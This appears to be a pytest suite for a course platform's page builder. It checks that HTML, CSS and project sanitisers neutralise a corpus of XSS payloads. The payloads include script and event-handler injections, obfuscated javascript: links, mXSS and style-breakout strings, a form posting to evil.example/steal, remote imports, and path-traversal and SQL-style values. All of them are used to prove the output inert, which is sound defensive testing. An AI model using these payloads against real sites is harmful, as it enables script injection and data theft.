"""Safe rendering: an XSS corpus posted through the builder's save endpoint, published
and rendered; unit tests of the HTML, CSS and project sanitisers and of the placeholder
rewriter (including property tests: sanitising is idempotent and replacing placeholders
never yields markup the sanitiser would change).

The browser half (the corpus never sets ``window.__xss`` in Chromium) is
``tests/e2e/test_builder.py``.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from courseplatform.sanitize.css import sanitize_css
from courseplatform.sanitize.html import sanitize_page_html
from courseplatform.sanitize.placeholders import placeholders, replace_placeholders
from courseplatform.sanitize.project import MAX_NESTING, ProjectRejected, sanitize_project
from courseplatform.sanitize.urls import normalize_embed_url, safe_href, safe_image_src
from courseplatform.sites.models import PageRevision
from courseplatform.tenancy.rls import school_context

from .support import home_page, logged_in, main_html, publish, reload, save_draft

# (name, html, code_is_removed): when code_is_removed, the payload's script text must be
# gone entirely (it sat in a script body or an attribute), not merely inert.
XSS_HTML: list[tuple[str, str, bool]] = [
    ("script tag", "<script>window.__xss=1</script>", True),
    ("script tag, uppercase", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", True),
    ("img onerror", '<img src="x" onerror="window.__xss=1">', True),
    ("img onerror unquoted", "<img src=x onerror=window.__xss=1//>", True),
    ("body onload", '<body onload="window.__xss=1"><p>hi</p></body>', True),
    ("svg onload", '<svg onload="window.__xss=1"><circle r="4"/></svg>', True),
    ("svg with script", "<svg><script>window.__xss=1</script></svg>", True),
    (
        "svg animate href",
        '<svg><a><animate attributeName="href" '
        'values="javascript:window.__xss=1"/><text>x</text></a></svg>',
        True,
    ),
    ("javascript link", '<a href="javascript:window.__xss=1">x</a>', True),
    ("javascript link mixed case", '<a href="JaVaScRiPt:window.__xss=1">x</a>', True),
    ("javascript link entities", '<a href="&#106;&#97;vascript:window.__xss=1">x</a>', True),
    ("javascript link hex entities", '<a href="&#x6A;avascript&#x3A;window.__xss=1">x</a>', True),
    ("javascript link whitespace", '<a href=" \tjava\nscript:window.__xss=1">x</a>', True),
    ("javascript link tab entity", '<a href="java&#x09;script:window.__xss=1">x</a>', True),
    ("vbscript link", '<a href="vbscript:msgbox(window.__xss)">x</a>', True),
    ("data link", '<a href="data:text/html,<script>window.__xss=1</script>">x</a>', True),
    ("data image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', True),
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>', True),
    ("iframe javascript", '<iframe src="javascript:parent.__xss=1"></iframe>', True),
    ("iframe other host", '<iframe src="https://evil.example/"></iframe>', True),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">', True),
    ("base href", '<base href="javascript:window.__xss=1//">', True),
    ("link import", '<link rel="stylesheet" href="https://evil.example/x.css">', True),
    ("style element", "<style>*{background:url(javascript:window.__xss=1)}</style>", True),
    ("style attribute", '<p style="background:url(javascript:window.__xss=1)">x</p>', True),
    ("object", '<object data="javascript:window.__xss=1"></object>', True),
    ("embed", '<embed src="javascript:window.__xss=1">', True),
    ("broken script nesting", "<scr<script>ipt>window.__xss=1</scr</script>ipt>", False),
    ("img inside attribute", '<p title="<img src=x onerror=window.__xss=1>">t</p>', False),
    ("unclosed attribute", '<img src="x" alt="a onerror=window.__xss=1 ">', False),
    (
        "details ontoggle",
        '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
        True,
    ),
    (
        "form injection",
        '<form action="https://evil.example/steal"><input name="code">'
        '<button formaction="javascript:window.__xss=1">Go</button></form>',
        True,
    ),
    ("input autofocus", '<input autofocus onfocus="window.__xss=1">', True),
    ("textarea breakout", "<textarea></textarea><script>window.__xss=1</script>", True),
    (
        "noscript breakout",
        '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
        False,
    ),
    (
        "mxss math style",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
        True,
    ),
    ("template", "<template><img src=x onerror=window.__xss=1></template>", True),
    ("comment breakout", "<!--<img src=x onerror=window.__xss=1>-->", True),
    ("cdata", "<![CDATA[<img src=x onerror=window.__xss=1>]]>", False),
    (
        "dynamic placeholder with handler",
        '<div data-cp-block="catalogue" onmouseover="window.__xss=1"></div>',
        True,
    ),
    (
        "embed block with javascript",
        '<div data-cp-block="embed" data-url="javascript:window.__xss=1"></div>',
        True,
    ),
    (
        "placeholder breakout attempt",
        '<div data-cp-block="course" data-course="1">'
        '<p title="</div><img src=x onerror=window.__xss=1>">x</p></div>',
        False,
    ),
]

XSS_CSS: list[tuple[str, str]] = [
    ("expression", "#a{width:expression(window.__xss=1)}"),
    ("escaped expression", "#a{width:expr\\65 ssion(window.__xss=1)}"),
    ("url javascript", "#a{background:url(javascript:window.__xss=1)}"),
    ("url javascript quoted", '#a{background-image:url("javascript:window.__xss=1")}'),
    ("url other host", "#a{background:url(https://evil.example/track.png)}"),
    ("protocol-relative url", "#a{background:url(//evil.example/track.png)}"),
    ("image-set", '#a{background-image:image-set("https://evil.example/a.png" 1x)}'),
    ("import", "@import url(https://evil.example/x.css); #a{color:red}"),
    ("import string", '@import "https://evil.example/x.css";'),
    ("behavior", "#a{behavior:url(xss.htc)}"),
    ("moz binding", "#a{-moz-binding:url(https://evil.example/x.xml#xss)}"),
    ("style breakout", "#a{color:red}</style><script>window.__xss=1</script><style>"),
    ("string breakout", '#a::after{content:"</style><script>window.__xss=1</script>"}'),
    ("font-face other host", "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}"),
    ("fixed overlay", "#a{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999}"),
    ("javascript in selector", 'a[href="javascript:window.__xss=1"]{color:red}'),
]


class _Inventory(HTMLParser):
    """Every element and attribute of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "xlink:href",
    "background",
    "poster",
    "srcset",
    "codebase",
    "dynsrc",
    "lowsrc",
}
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "template",
    "textarea",
    "select",
    "noscript",
}


def assert_inert(fragment: str, *, allow_redeem_form: bool = False) -> None:
    """No script, handler, dangerous URL or foreign element in ``fragment``."""
    inventory = _Inventory()
    inventory.feed(fragment)
    inventory.close()
    assert not inventory.comments, inventory.comments
    for tag, attrs in inventory.tags:
        assert tag not in FORBIDDEN_TAGS, (tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in {"style", "srcdoc", "formaction"}, (tag, name)
            if name in URL_ATTRIBUTES:
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not compact.startswith(("javascript:", "data:", "vbscript:")), (tag, value)
                if tag == "img":
                    assert value.startswith("/") and not value.startswith("//"), value
        if tag in {"form", "input", "button"}:
            assert allow_redeem_form, (tag, attrs)
            if tag == "form":
                assert attrs.get("action") == "/redeem/", attrs


def assert_css_inert(css: str) -> None:
    lowered = css.lower()
    for word in (
        "expression",
        "javascript",
        "@import",
        "behavior",
        "binding",
        "<",
        "</style",
        "evil.example",
        "image-set",
        "position:fixed",
        "__xss",
    ):
        assert word not in lowered, (word, css)


# --- through the save endpoint -------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "payload", "code_removed"), XSS_HTML, ids=[c[0] for c in XSS_HTML]
)
def test_xss_html_saved_published_and_rendered_is_inert(
    name: str, payload: str, code_removed: bool, make_school: Any, client_for: Any
) -> None:
    created = make_school("alpha")
    school, owner = created.school, created.owner
    client = logged_in(client_for, owner)
    page = home_page(school)
    html = f'<h2 id="probe">Probe</h2>{payload}'
    project = {
        "pages": [
            {
                "frames": [
                    {
                        "component": {
                            "type": "wrapper",
                            "components": [
                                {"type": "text", "content": payload},
                                {
                                    "tagName": "img",
                                    "attributes": {"src": "x", "onerror": "window.__xss=1"},
                                },
                            ],
                        }
                    }
                ]
            }
        ]
    }
    assert save_draft(client, page.pk, html=html, css="", project=project).status_code == 200
    stored = reload(page)
    assert_inert(stored.draft_html)
    if code_removed:
        assert "__xss" not in json.dumps(stored.draft_project)
    wrapper = stored.draft_project["pages"][0]["frames"][0]["component"]
    assert wrapper["components"][1] == {"type": "default", "tagName": "img"}  # no src, no handler
    assert_inert(wrapper["components"][0].get("content", ""))
    assert publish(client, page.pk).status_code == 200

    stored = reload(page)
    with school_context(school):
        revision = PageRevision.objects.get(page=stored, pk=stored.published_revision_id or 0)
    for text in (stored.draft_html, stored.published_html, revision.html):
        assert_inert(text)
        assert "Probe" in text
        if code_removed:
            assert "__xss" not in text and "evil.example" not in text

    for viewer in (client_for("alpha.localhost"), client):
        for path in ("/", "/?preview=draft"):
            response = viewer.get(path)
            assert response.status_code == 200
            body = main_html(response)
            # What renders into the page: the builder's container, not our own forms.
            page_html = body[body.index('<div class="cp-page"') :]
            assert_inert(page_html)
            if code_removed:
                assert "__xss" not in page_html


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "css"), XSS_CSS, ids=[c[0] for c in XSS_CSS])
def test_xss_css_saved_published_and_rendered_is_inert(
    name: str, css: str, make_school: Any, client_for: Any
) -> None:
    created = make_school("alpha")
    school, owner = created.school, created.owner
    client = logged_in(client_for, owner)
    page = home_page(school)
    css = f"#probe{{color:#123456}}\n{css}"
    assert save_draft(client, page.pk, html='<h2 id="probe">Probe</h2>', css=css).status_code == 200
    assert_css_inert(reload(page).draft_css)
    assert publish(client, page.pk).status_code == 200
    stored = reload(page)
    assert_css_inert(stored.published_css)
    response = client_for("alpha.localhost").get("/")
    text = response.content.decode()
    style = re.search(r"<style data-page-css>(.*?)</style>", text, re.DOTALL)
    if style:
        assert_css_inert(style.group(1))
    # Nothing was able to close the <style> element early or smuggle script in.
    assert "__xss" not in text
    assert text.count("<script") == text.count("<script src=") + text.count(
        '<script type="application/json"'
    )
    assert_inert(main_html(response)[main_html(response).index('<div class="cp-page"') :])


@pytest.mark.django_db
def test_row_edited_behind_our_back_is_sanitised_on_render(
    make_school: Any, client_for: Any
) -> None:
    """Stored HTML is cleaned again when rendered (shell, SQL or a future bug)."""
    created = make_school("alpha")
    page = home_page(created.school)
    with school_context(created.school):
        PageRevision.objects.filter(pk=page.published_revision_id or 0).update(
            html='<p id="ok">ok</p><img src=x onerror="window.__xss=1"><script>x()</script>'
        )
        type(page).objects.filter(pk=page.pk).update(
            published_html='<p id="ok">ok</p><img src=x onerror="window.__xss=1">'
            "<script>window.__xss=1</script>",
            published_css="#ok{color:red}</style><script>window.__xss=1</script>",
        )
    response = client_for("alpha.localhost").get("/")
    text = response.content.decode()
    assert '<p id="ok">ok</p>' in text
    assert "__xss" not in text


# --- the sanitisers themselves ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("/courses/", "/courses/"),
        ("#redeem", "#redeem"),
        ("https://example.com/a?b=c", "https://example.com/a?b=c"),
        ("mailto:hello@example.com", "mailto:hello@example.com"),
        ("tel:+4412345", "tel:+4412345"),
        ("about/", "about/"),
        ("javascript:alert(1)", None),
        (" JAVASCRIPT:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html,x", None),
        ("vbscript:x", None),
        ("\\\\evil.example", None),
    ],
)
def test_safe_href(value: str, expected: str | None) -> None:
    assert safe_href(value) == expected


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("/site-media/0123456789abcdef0123456789abcdef.png", True),
        ("/branding/logo?v=abc", True),
        ("/static/dist/fonts/x.woff2", True),
        ("https://evil.example/x.png", False),
        ("//evil.example/x.png", False),
        ("/site-media/../../etc/passwd", False),
        ("/site-media/%2e%2e/x", False),
        ("data:image/png;base64,AAAA", False),
        ("/p/about/", False),
    ],
)
def test_safe_image_src(value: str, ok: bool) -> None:
    assert (safe_image_src(value) is not None) is ok


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
        ),
        ("https://youtu.be/dQw4w9WgXcQ?t=3", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("youtube.com/shorts/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        (
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
        ),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
        ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"),
        ("https://evil.example/embed/dQw4w9WgXcQ", None),
        ("javascript:alert(1)", None),
        ("https://www.youtube.com/watch?v=<script>", None),
        ("https://user:pw@www.youtube.com/watch?v=dQw4w9WgXcQ", None),
    ],
)
def test_normalize_embed_url(value: str, expected: str | None) -> None:
    assert normalize_embed_url(value) == expected


def test_css_keeps_ordinary_builder_styles_and_scopes_them() -> None:
    css = (
        "* { box-sizing: border-box; } body {margin: 0;}"
        "#i3kd{color:#0e7490;background-image:url('/site-media/abc.png');padding:10px 2%}"
        '.cp-hero:hover > .cp-title, body .x{font-family:"Lora Variable",serif !important}'
        "@media (max-width: 480px){#i3kd{display:none;grid-template-columns:repeat(2,1fr)}}"
        "#k{background:linear-gradient(90deg,var(--school-primary),#fff);width:calc(100% - 2rem)}"
    )
    cleaned = sanitize_css(css, scope=".cp-page")
    assert ".cp-page *{box-sizing:border-box}" in cleaned
    assert ".cp-page{margin:0}" in cleaned
    assert '.cp-page #i3kd{color:#0e7490;background-image:url("/site-media/abc.png")' in cleaned
    assert ".cp-page .cp-hero:hover > .cp-title,.cp-page .x{" in cleaned
    assert "!important" in cleaned
    assert "@media (max-width: 480px){.cp-page #i3kd{display:none;" in cleaned
    assert "linear-gradient(90deg,var(--school-primary),#fff)" in cleaned
    assert sanitize_css(sanitize_css(css)) == sanitize_css(css)


def test_css_drops_unknown_properties_and_at_rules() -> None:
    cleaned = sanitize_css(
        "#a{color:red;-webkit-user-modify:read-write;zoom:5}"
        "@keyframes x{from{color:red}}@namespace svg url(x);@charset 'x';"
    )
    assert cleaned == "#a{color:red}"


def test_same_origin_font_face_is_kept() -> None:
    css = '@font-face{font-family:"Mine";src:url(/static/dist/fonts/a.woff2) format("woff2")}'
    assert sanitize_css(css) == css


def test_html_keeps_builder_markup() -> None:
    html = (
        '<section class="cp-hero" id="i8x"><div class="cp-container"><h1 class="cp-title">Hi'
        '</h1><a class="cp-btn cp-btn--primary" href="/courses/" target="_blank">Go</a>'
        '<img class="cp-image" src="/site-media/0123456789abcdef0123456789abcdef.png" alt="A">'
        "<details open><summary>Q</summary><p>A</p></details>"
        '<div data-cp-block="course" data-course="12"></div></div></section>'
    )
    cleaned = sanitize_page_html(html)
    for kept in (
        'class="cp-hero" id="i8x"',
        '<h1 class="cp-title">Hi</h1>',
        'href="/courses/" target="_blank" rel="noopener noreferrer"',
        'src="/site-media/0123456789abcdef0123456789abcdef.png" alt="A"',
        "<details open",
        '<div data-cp-block="course" data-course="12"></div>',
    ):
        assert kept in cleaned, kept


def test_placeholder_values_are_checked() -> None:
    cleaned = sanitize_page_html(
        '<div data-cp-block="evil"></div><div data-cp-block="course" data-course="1 OR 1=1">'
        '</div><span data-cp-block="catalogue"></span><div data-user="5" data-foo="x"></div>'
    )
    assert 'data-cp-block="evil"' not in cleaned
    assert '<div data-cp-block="course"></div>' in cleaned
    assert "<span>" in cleaned and "data-foo" not in cleaned


def test_replace_placeholders_replaces_the_whole_subtree() -> None:
    clean = sanitize_page_html(
        '<p>before</p><div data-cp-block="catalogue"><div><p>inner</p></div><br>x</div>'
        '<p title="&lt;/div&gt;">after</p>'
    )
    result = replace_placeholders(clean, lambda attrs: f"[{attrs['data-cp-block']}]")
    assert result == '<p>before</p>[catalogue]<p title="&lt;/div&gt;">after</p>'
    assert placeholders(clean) == [{"data-cp-block": "catalogue"}]


def test_project_sanitiser_keeps_structure_and_drops_code() -> None:
    project = {
        "assets": [{"type": "image", "src": "/site-media/abc.png"}, {"src": "https://evil/x.png"}],
        "symbols": [{"evil": True}],
        "dataSources": [{"id": "x"}],
        "styles": [
            {
                "selectors": ["#i1"],
                "style": {
                    "color": "red",
                    "behavior": "url(x)",
                    "background": "url(javascript:alert(1))",
                },
            },
            {
                "selectors": [{"name": "cp-hero"}],
                "state": "hover",
                "mediaText": "(max-width: 480px)",
                "atRuleType": "media",
                "style": {"padding": "2rem !important"},
            },
            {"selectors": [], "selectorsAdd": "body</style><script>", "style": {"color": "red"}},
        ],
        "pages": [
            {
                "id": "p1",
                "frames": [
                    {
                        "component": {
                            "type": "wrapper",
                            "attributes": {"onload": "x()"},
                            "components": [
                                {
                                    "type": "text",
                                    "tagName": "h1",
                                    "content": "<b>Hi</b><img src=x onerror=x()>",
                                    "script": "alert(1)",
                                    "icon": "<img src=x onerror=alert(1)>",
                                    "name": "<img src=x onerror=alert(1)>",
                                    "classes": ["cp-title", {"name": "ok"}, "bad class<"],
                                },
                                {"type": "script", "content": "alert(1)"},
                                {"tagName": "iframe", "attributes": {"src": "javascript:alert(1)"}},
                                {
                                    "type": "image",
                                    "src": "javascript:alert(1)",
                                    "attributes": {
                                        "src": "/site-media/abc.png",
                                        "onerror": "alert(1)",
                                    },
                                },
                                {"type": "textnode", "content": "a <b> c"},
                                {
                                    "type": "cp-dynamic",
                                    "attributes": {"data-cp-block": "course", "data-course": "7"},
                                },
                                {
                                    "type": "link",
                                    "attributes": {"href": "javascript:alert(1)"},
                                    "components": [{"type": "textnode", "content": "x"}],
                                },
                            ],
                        }
                    }
                ],
            }
        ],
    }
    clean = sanitize_project(project)
    dumped = json.dumps(clean)
    for bad in (
        "onerror",
        "onload",
        "javascript",
        "behavior",
        "script",
        "icon",
        "iframe",
        "evil",
        "symbols",
        "dataSources",
        "</style",
    ):
        assert bad not in dumped, bad
    wrapper = clean["pages"][0]["frames"][0]["component"]
    kinds = [c["type"] for c in wrapper["components"]]
    assert kinds == ["text", "image", "textnode", "cp-dynamic", "link"]
    assert wrapper["components"][0]["content"] == "<b>Hi</b><img>"
    assert wrapper["components"][0]["classes"] == ["cp-title", "ok"]
    assert wrapper["components"][1] == {
        "type": "image",
        "attributes": {"src": "/site-media/abc.png"},
    }
    assert wrapper["components"][3]["attributes"] == {"data-cp-block": "course", "data-course": "7"}
    assert clean["styles"][0]["style"] == {"color": "red"}
    assert clean["styles"][1]["style"] == {"padding": "2rem !important"}
    assert len(clean["styles"]) == 2
    assert clean["assets"] == [{"type": "image", "src": "/site-media/abc.png"}]


def test_project_sanitiser_refuses_absurd_nesting() -> None:
    component: dict[str, Any] = {"type": "default"}
    root = component
    for _ in range(MAX_NESTING + 5):
        child: dict[str, Any] = {"type": "default"}
        component["components"] = [child]
        component = child
    with pytest.raises(ProjectRejected):
        sanitize_project({"pages": [{"frames": [{"component": root}]}]})


# --- properties ------------------------------------------------------------------------------

_fragments = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            '<div data-cp-block="catalogue">',
            '<div data-cp-block="course" data-course="3">',
            "<img src=x onerror=alert(1)>",
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            '<a href="javascript:x">',
            "</a>",
            "<svg>",
            "<math>",
            "<noscript>",
            "<iframe>",
            "<textarea>",
            "<!--",
            "-->",
            "<br>",
            "text",
            "&amp;",
            "&lt;",
            '"',
            "'",
            ">",
            "<",
            "<title>",
            '<p title="</div>">',
            "<table>",
            "<td>",
            "<select>",
            "<template>",
            "<xmp>",
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(_fragments)
def test_sanitising_is_idempotent_and_placeholders_stay_safe(html: str) -> None:
    clean = sanitize_page_html(html)
    assert sanitize_page_html(clean) == clean
    # Replacing placeholders by nothing never produces markup the sanitiser would change:
    # the rewriter cut on token boundaries.
    rewritten = replace_placeholders(clean, lambda attrs: "")
    assert sanitize_page_html(rewritten) == rewritten
    assert_inert(rewritten)


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("#.a{}:;()<>/\"'@ \\-urlimpotexsn*!0123456789")), max_size=120
    )
)
def test_css_output_is_idempotent_and_never_contains_lt(css: str) -> None:
    cleaned = sanitize_css(css)
    assert "<" not in cleaned
    assert sanitize_css(cleaned) == cleaned


def test_sanitising_a_link_fostered_out_of_a_table_is_idempotent() -> None:
    # Found by the property test above: one nh3 pass nests the second link inside the
    # first ("<a><a></a><table></table></a>"), which parses back as two siblings.
    clean = sanitize_page_html('<a href="/x"><table><a href="/y">')
    assert sanitize_page_html(clean) == clean
    assert "<a" not in clean.split("</a>", 1)[0][2:]


def _both_rewriters(clean: str) -> tuple[str | None, str]:
    from courseplatform.sanitize.placeholders import _rewrite_parsed, _rewrite_serialised

    def render(attrs: dict[str, str]) -> str:
        return "[" + ",".join(f"{k}={v}" for k, v in sorted(attrs.items())) + "]"

    return _rewrite_serialised(clean, render), _rewrite_parsed(clean, render)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(_fragments)
def test_the_fast_rewriter_agrees_with_the_parser(html: str) -> None:
    # The regular-expression tokeniser (the cold-render fast path) must cut exactly
    # where the standard parser does, on any sanitised input it accepts.
    clean = sanitize_page_html(html)
    fast, parsed = _both_rewriters(clean)
    if fast is not None:
        assert fast == parsed


def test_the_fast_rewriter_takes_builder_pages_and_declines_other_grammar() -> None:
    from courseplatform.sites.services import STARTERS, starter_html
    from courseplatform.tenancy.models import School

    school = School(name='Studio <&> "Quotes"', slug="studio", language="ar")
    for key in STARTERS:  # every starter landing page, as a new school gets it
        clean = starter_html(school=school, starter=key)
        assert "data-cp-block" in clean
        fast, parsed = _both_rewriters(clean)
        assert fast is not None and fast == parsed
    hostile = (
        '<p title="<div data-cp-block=&quot;catalogue&quot;></div>">x</p>'
        '<div data-cp-block="catalogue" title="a > b">inner</div>&amp; done'
    )
    clean = sanitize_page_html(hostile)
    fast, parsed = _both_rewriters(clean)
    assert fast == parsed and fast is not None
    assert fast.count("[data-cp-block=catalogue") == 1 and fast.endswith("&amp; done")
    # Not the serialiser's output: a comment, a raw-text element, a stray "<".
    for other in (
        '<!-- c --><div data-cp-block="catalogue"></div>',
        '<style>a<b</style><div data-cp-block="catalogue"></div>',
        'a < b<div data-cp-block="catalogue"></div>',
    ):
        fast, parsed = _both_rewriters(other)
        assert fast is None and "[data-cp-block=catalogue]" in parsed
